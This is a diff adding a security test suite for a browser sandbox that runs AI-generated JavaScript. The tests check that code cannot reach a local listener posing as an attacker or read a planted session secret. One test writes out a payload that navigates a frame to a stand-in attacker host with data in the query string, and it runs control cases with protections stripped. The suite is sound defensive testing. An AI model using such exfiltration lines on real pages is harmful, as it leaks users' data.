@@ -1,0 +1,263 @@
+/** What code from a model can do in the sandbox: nothing but calculate. Every attack runs against a server that hears each connection. */
+import { expect } from 'chai';
+import { createSocket, type Socket } from 'node:dgram';
+import { readFile } from 'node:fs/promises';
+import { createServer, type AddressInfo, type Server } from 'node:net';
+import { launch, type Driver } from './driver.js';
+import { serveHost, type HostSite } from './host-server.js';
+import { attacks, calls, type Attack } from './sandbox-attacks.js';
+import { ALLOW, card, say, textOfChat, untilIdle, untilReady } from './widget.js';
+
+const SECRET = 'secret-of-the-page';
+
+/** Hears whatever reaches it, by TCP or UDP, before anybody speaks HTTP. */
+async function attacker() {
+  const heard: string[] = [];
+  const sockets = new Set<{ destroy(): void }>();
+  const tcp: Server = createServer((socket) => {
+    sockets.add(socket);
+    socket.on('error', () => undefined);
+    socket.once('data', (bytes) => {
+      heard.push(bytes.toString('latin1').split('\r\n')[0] ?? '');
+      const type = 'content-type: text/javascript\r\naccess-control-allow-origin: *\r\ncontent-length: 0\r\nconnection: close\r\n\r\n';
+      socket.end(`HTTP/1.1 200 OK\r\n${type}`);
+    });
+  });
+  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
+  const { port } = tcp.address() as AddressInfo;
+  const udp: Socket = createSocket('udp4', (bytes) => heard.push(`a packet of ${String(bytes.length)}`));
+  await new Promise<void>((resolve) => udp.bind(port, '127.0.0.1', resolve));
+  return {
+    ...{ heard, at: `127.0.0.1:${String(port)}` },
+    async stop() {
+      for (const socket of sockets) socket.destroy();
+      udp.close();
+      await new Promise((resolve) => tcp.close(resolve));
+    },
+  };
+}
+
+interface Told {
+  /** What the call gave, or said, as JSON. */
+  said: string;
+  failed: boolean;
+  ms: number;
+  /** Milliseconds between two ticks of the page, at worst. */
+  gap: number;
+}
+
+const page = (policy = '') => `<!doctype html><html lang="en"><meta charset="utf-8"><title>Sandbox</title>${policy}
+<script type="module">
+  import { sandboxTools } from '/dist/lib/toolkits/index.js';
+  document.cookie = 'session=${SECRET}';
+  localStorage.setItem('secret', '${SECRET}');
+  window.forged = [];
+  new BroadcastChannel('page').onmessage = ({ data }) => forged.push(data);
+  addEventListener('message', ({ data }) => forged.push(data));
+  window.run = async (code, { sandboxUrl = '/dist/tool-chat-sandbox.html', timeout = 8000, signal } = {}) => {
+    const [tool] = sandboxTools({ sandboxUrl, timeout, lang: 'en' });
+    const started = performance.now();
+    let [last, gap] = [started, 0];
+    const tick = () => { const now = performance.now(); gap = Math.max(gap, now - last); last = now; };
+    const ticking = setInterval(tick, 10);
+    const told = await Promise.resolve(tool.execute({ code }, { signal: signal ?? new AbortController().signal })).then(
+      (value) => ({ failed: false, said: JSON.stringify(value) }),
+      (error) => ({ failed: true, said: JSON.stringify({ message: error.message, code: error.code, data: error.data }) }),
+    );
+    tick();
+    clearInterval(ticking);
+    return { ...told, gap, ms: performance.now() - started };
+  };
+</script>`;
+
+describe('code in the sandbox', function () {
+  this.timeout(60_000);
+  let driver: Driver;
+  let site: HostSite;
+  let enemy: Awaited<ReturnType<typeof attacker>>;
+
+  before(async () => {
+    driver = await launch();
+    site = await serveHost();
+    enemy = await attacker();
+    const html = await readFile(new URL('../../dist/tool-chat-sandbox.html', import.meta.url), 'utf8');
+    const cut = (text: string, part: string | RegExp) => {
+      expect(text).to.match(part instanceof RegExp ? part : new RegExp(part.replace(/[()]/g, '\\$&')));
+      return text.replace(part, '');
+    };
+    const policy = /<meta\s+http-equiv="Content-Security-Policy"[^>]*>/;
+    site.put('/policy-alone.html', cut(html, 'strip();'));
+    site.put('/stripped-alone.html', cut(html, policy));
+    site.put('/unprotected.html', cut(cut(html, policy), 'strip();'));
+    site.put('/in-the-frame.html', html.replace('begun = true;', `port.postMessage([data.id, 'begun', '']); (0, eval)(data.code);`));
+    const guide = await readFile(new URL('../../docs/hands.md', import.meta.url), 'utf8');
+    const [, headers = ''] = /<!-- sandbox policy -->\n\n```text\n(.*)\n```/.exec(guide) ?? [];
+    site.put('/headed.html', html, headers);
+    const [, element = ''] = /```html\n(<tool-chat[^\n]*sandbox-url[^\n]*)\n```/.exec(guide) ?? [];
+    const [, sample = ''] = /<!-- sample: sandbox -->\n\n```js\n([\s\S]*?)\n```/.exec(guide) ?? [];
+    site.put('/tool-chat-sandbox.html', html);
+    site.put(
+      '/give.js',
+      `${sample.replace('tool-chat/tools', '/dist/lib/toolkits/index.js')}\ngiveCode(document.querySelector('tool-chat'));`,
+    );
+    site.put(
+      '/chat.html',
+      `<!doctype html><html lang="en"><meta charset="utf-8"><title>Code</title><link rel="stylesheet" href="/page.css">${element}
+<script type="module" src="/dist/tool-chat.js"></script><script type="module" src="/give.js"></script>`,
+      "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; frame-src 'self'; require-trusted-types-for 'script'; trusted-types lit-html",
+    );
+    site.put('/page.css', 'tool-chat { height: 90vh }');
+    site.put('/page.html', page());
+    site.put('/no-frames.html', page(), "frame-src 'none'");
+    site.put('/closed.html', page(), "frame-src 'self'");
+  });
+  after(async () => {
+    await driver.close();
+    await enemy.stop();
+    await site.close();
+  });
+  beforeEach(async () => {
+    await open('/page.html');
+    enemy.heard.length = 0;
+  });
+
+  async function open(path: string) {
+    await driver.open(site.url + path);
+    await driver.waitFor(() => 'run' in window);
+  }
+
+  const run = (code: string, options: { sandboxUrl?: string; timeout?: number } = {}) =>
+    driver.evaluate(
+      (given, how) => (window as unknown as { run: (...args: unknown[]) => Promise<Told> }).run(given, how),
+      code.replaceAll('AT/', `${enemy.at}/`).replaceAll("AT'", `${enemy.at}'`),
+      options,
+    );
+
+  const runAttack = ({ code, timeout }: Attack, sandboxUrl?: string) =>
+    run(code, { ...(timeout && { timeout }), ...(sandboxUrl && { sandboxUrl }) });
+
+  it('gives what an expression, a script and a function give, with the lines of the console (S3-04, S3-26)', async () => {
+    const given = async (code: string) => JSON.parse((await run(code)).said) as unknown;
+    expect(await given('1+1')).to.deep.equal({ result: 2 });
+    expect(await given('{ "a": [1, null, "x"] }')).to.deep.equal({ result: { a: [1, null, 'x'] } });
+    expect(await given('const n = 3; let sum = 0; for (let i = 0; i <= n; i++) sum += i; sum // done')).to.deep.equal({ result: 6 });
+    expect(await given('await Promise.resolve(7)')).to.deep.equal({ result: 7 });
+    expect(await given('const x = await 4; if (x) return x * 2;')).to.deep.equal({ result: 8 });
+    expect(await given('console.log("a", { b: 1 }); console.warn(2); "c"')).to.deep.equal({
+      result: 'c',
+      console: ['a {"b":1}', 'warn: 2'],
+    });
+    expect(await given('let nothing')).to.deep.equal({ result: 'The code ran and gave no value' });
+    expect(await given('console.log("before"); throw new TypeError("not so")')).to.deep.equal({
+      message: 'The code failed: TypeError: not so',
+      ...{ code: 'EXECUTION_FAILED', data: { console: ['before'] } },
+    });
+    // Nothing is left from one run to the next.
+    expect(await given('globalThis.kept = 1')).to.deep.equal({ result: 1 });
+    expect(await given('typeof kept')).to.deep.equal({ result: 'undefined' });
+    expect(await driver.count('iframe')).to.equal(0);
+  });
+
+  it('takes the address of the element, asks, and gives the model what came out, under a strict policy (S3-26)', async () => {
+    await driver.open(`${site.url}/chat.html`);
+    await untilReady(driver);
+    site.say(
+      '<tool_use><invoke name="browser_js_eval"><parameter name="code">[1, 2, 3].map((n) => n * 111)</parameter></invoke></tool_use>',
+      'Done so.',
+    );
+    await say(driver, 'Go');
+    await driver.waitFor(ALLOW);
+    await driver.click(ALLOW);
+    await driver.waitFor(card('success', 'browser_js_eval'));
+    await untilIdle(driver);
+    expect(await textOfChat(driver)).to.contain('Done so.');
+    expect(JSON.stringify(site.asked.at(-1))).to.contain('111,222,333');
+    expect(await driver.evaluate(() => document.querySelector('tool-chat')?.sandboxUrl)).to.equal('/tool-chat-sandbox.html');
+  });
+
+  it('runs under the headers that the guide names, and under no other page', async () => {
+    expect(JSON.parse((await run('6 * 7', { sandboxUrl: '/headed.html' })).said)).to.deep.equal({ result: 42 });
+    await open('/no-frames.html');
+    const told = await run('6 * 7');
+    expect(told.said).to.contain('does not answer').and.contain('frame-src');
+    expect(await driver.count('iframe')).to.equal(0);
+  });
+
+  for (const attack of attacks)
+    it(`stands ${attack.name}`, async () => {
+      const told = await runAttack(attack);
+      expect(told.said).to.match(attack.says ?? /./);
+      expect(told.said).to.not.contain(SECRET).and.not.contain('forged').and.not.contain('reached');
+      expect(enemy.heard).to.deep.equal([]);
+      expect(await driver.count('iframe')).to.equal(0);
+      expect(await driver.evaluate(() => (window as unknown as { forged: unknown[] }).forged)).to.deep.equal([]);
+      expect(({} as { polluted?: unknown }).polluted).to.equal(undefined);
+      expect(JSON.parse((await run('1+1')).said), 'the page is alive').to.deep.equal({ result: 2 });
+    });
+
+  it('is kept from the network by the policy alone', async () => {
+    for (const attack of calls) await runAttack({ ...attack, timeout: 3000 }, '/policy-alone.html');
+    expect(enemy.heard).to.deep.equal([]);
+  });
+
+  it('is kept from the network without a policy, but for imports, which are no function', async () => {
+    for (const attack of calls) await runAttack({ ...attack, timeout: 3000 }, '/stripped-alone.html');
+    expect(enemy.heard.filter((line) => !/GET \/(?:import|made)\.js/.test(line))).to.deep.equal([]);
+  });
+
+  it('as a control: with neither, every one of these calls reaches the attacker', async () => {
+    for (const attack of calls) {
+      enemy.heard.length = 0;
+      await runAttack({ ...attack, timeout: 3000 }, '/unprotected.html');
+      expect(enemy.heard, attack.name).to.have.length.above(0);
+    }
+  });
+
+  it('never stands in the frame, where it could send itself away; as a control: there it can, unless the page names its frames', async () => {
+    const away = `location = 'http://AT/away?d=1'`;
+    await run(away, { sandboxUrl: '/in-the-frame.html', timeout: 1000 });
+    expect(enemy.heard.join()).to.contain('/away?d=1');
+    await open('/closed.html');
+    enemy.heard.length = 0;
+    await run(away, { sandboxUrl: '/in-the-frame.html', timeout: 1000 });
+    expect(enemy.heard).to.deep.equal([]);
+    expect(JSON.parse((await run('1+1')).said)).to.deep.equal({ result: 2 });
+  });
+
+  it('ends in time when it loops, and the page does not feel it', async () => {
+    const told = await run('for (;;);', { timeout: 1000 });
+    expect(told.said).to.contain('did not end within 1 s').and.contain('TIMEOUT');
+    expect(told.ms).to.be.within(900, 4000);
+    expect(told.gap).to.be.below(500);
+  });
+
+  it('stops when the call is stopped, and gives the lines so far', async () => {
+    const told = await driver.evaluate(async () => {
+      const stop = new AbortController();
+      const ended = (window as unknown as { run: (...args: unknown[]) => Promise<Told> }).run(`console.log('begun'); for (;;);`, {
+        signal: stop.signal,
+        timeout: 20_000,
+      });
+      setTimeout(() => stop.abort(), 700);
+      return ended;
+    });
+    expect(told.said).to.contain('CANCELLED').and.contain('begun');
+    expect(told.ms).to.be.below(6000);
+    expect(await driver.count('iframe')).to.equal(0);
+  });
+
+  it('does not run where the page of the sandbox has the rights of a site', async () => {
+    const answered = await driver.evaluate(async () => {
+      const frame = document.createElement('iframe');
+      frame.src = '/dist/tool-chat-sandbox.html';
+      const { port1, port2 } = new MessageChannel();
+      const answer = new Promise((resolve) => (port1.onmessage = ({ data }) => resolve(data)));
+      frame.onload = () => frame.contentWindow?.postMessage({ id: 'x', code: 'parent.owned = 1' }, '*', [port2]);
+      document.body.append(frame);
+      const said = await answer;
+      frame.remove();
+      return { said, owned: 'owned' in window };
+    });
+    expect(answered).to.deep.equal({ said: ['x', 'exposed', ''], owned: false });
+  });
+});
